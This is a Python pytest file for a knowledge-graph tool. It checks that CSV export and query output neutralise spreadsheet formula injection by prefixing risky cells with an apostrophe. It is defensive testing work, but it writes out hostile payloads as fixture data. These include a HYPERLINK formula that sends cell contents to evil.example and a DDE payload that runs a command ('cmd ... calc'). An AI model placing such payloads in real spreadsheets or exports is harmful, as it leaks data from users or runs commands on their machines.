"""CSV from `kg export` and `kg query` opens in a spreadsheet without running formulas (OWASP).

The sample graph gets labels, an alias and an evidence sentence that begin with =, +, -, @, tab
and carriage return, as scraped news could hold; both commands must write them as text.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pyoxigraph as ox
import pytest
from typer.testing import CliRunner

from kg.cli import app
from kg.csv_safe import FORMULA_START, PLAIN_NUMBER, safe_cell
from kg.graph.store import load_store

SAMPLE = Path(__file__).parent / "fixtures" / "sample.trig"
RDFS_LABEL = "http://www.w3.org/2000/01/rdf-schema#label"
SKOS_ALT = "http://www.w3.org/2004/02/skos/core#altLabel"
MS = "https://w3id.org/minsheng-kg/ontology#"
HOSTILE = {  # the sample's text -> what an attacker's article could have said instead
    "社会救助服务联合体": '=HYPERLINK("http://evil.example/?"&A1,"社会救助服务联合体")',
    "丁中平": "+丁中平",
    "涪陵区": "-2+3+cmd|' /C calc'!A0",
    "黎勇": "@SUM(1+1)",
    "就业": "\t=就业",
    "沙坪坝": "\r=沙坪坝",
    "沙坪坝区创新投用全市首个社会救助服务联合体。": "=1+1 沙坪坝区创新投用全市首个社会救助服务联合体。",
}


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("hostile")
    dataset = ox.Dataset()
    for q in ox.parse(path=str(SAMPLE), format=ox.RdfFormat.TRIG):
        obj = q.object
        if isinstance(obj, ox.Literal) and obj.value in HOSTILE:
            obj = ox.Literal(HOSTILE[obj.value], language=obj.language)
        elif q.predicate.value == MS + "value":
            obj = ox.Literal("-3.5", datatype=obj.datatype)  # a negative number must stay a number
        dataset.add(ox.Quad(q.subject, q.predicate, obj, q.graph_name))
    ox.serialize(dataset, output=str(out / "graph.trig"), format=ox.RdfFormat.TRIG)
    load_store(out / "graph.trig", out / "store")
    return out


def cells(text: str) -> list[str]:
    """Every cell, read as a spreadsheet would (a bare CR in a cell would start a new row)."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_no_formula(all_cells: list[str]) -> None:
    runnable = [c for c in all_cells if c.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(c)]
    assert runnable == []


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-3.5", "-3.5"), ("+2", "+2"), ("1e-3", "1e-3"),
    ("社会救助", "社会救助"), ("a=b", "a=b"), ("", ""), (None, ""), (24400.0, "24400.0"),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_export_csv_neutralizes_formulas(hostile_build):
    result = CliRunner().invoke(app, ["export", "--format", "csv", "--graph", str(hostile_build / "graph.trig"),
                                      "--out", str(hostile_build / "csv")])
    assert result.exit_code == 0, result.output
    nodes = (hostile_build / "csv" / "nodes.csv").read_bytes().decode("utf-8")
    edges = (hostile_build / "csv" / "edges.csv").read_bytes().decode("utf-8")
    written = cells(nodes) + cells(edges)
    assert_no_formula(written)
    for hostile in HOSTILE.values():
        assert any(c.startswith("'" + hostile) for c in written), hostile
    assert "-3.5" in cells(nodes)


def test_query_csv_neutralizes_formulas(hostile_build):
    query = ("SELECT ?n ?l ?sentence WHERE { { ?n rdfs:label|skos:altLabel ?l } UNION "
             "{ ?e ms:sentence ?sentence } UNION { ?i ms:value ?l } }")
    result = CliRunner().invoke(app, ["query", query, "--format", "csv", "--build-dir", str(hostile_build)])
    assert result.exit_code == 0, result.output
    text = result.stdout_bytes.decode("utf-8")
    written = cells(text)
    assert_no_formula(written)
    assert {"'" + h for h in HOSTILE.values()} <= set(written) and "-3.5" in written
    assert text.startswith("\ufeffn,l,sentence\r\n")  # the BOM Excel needs, then the header
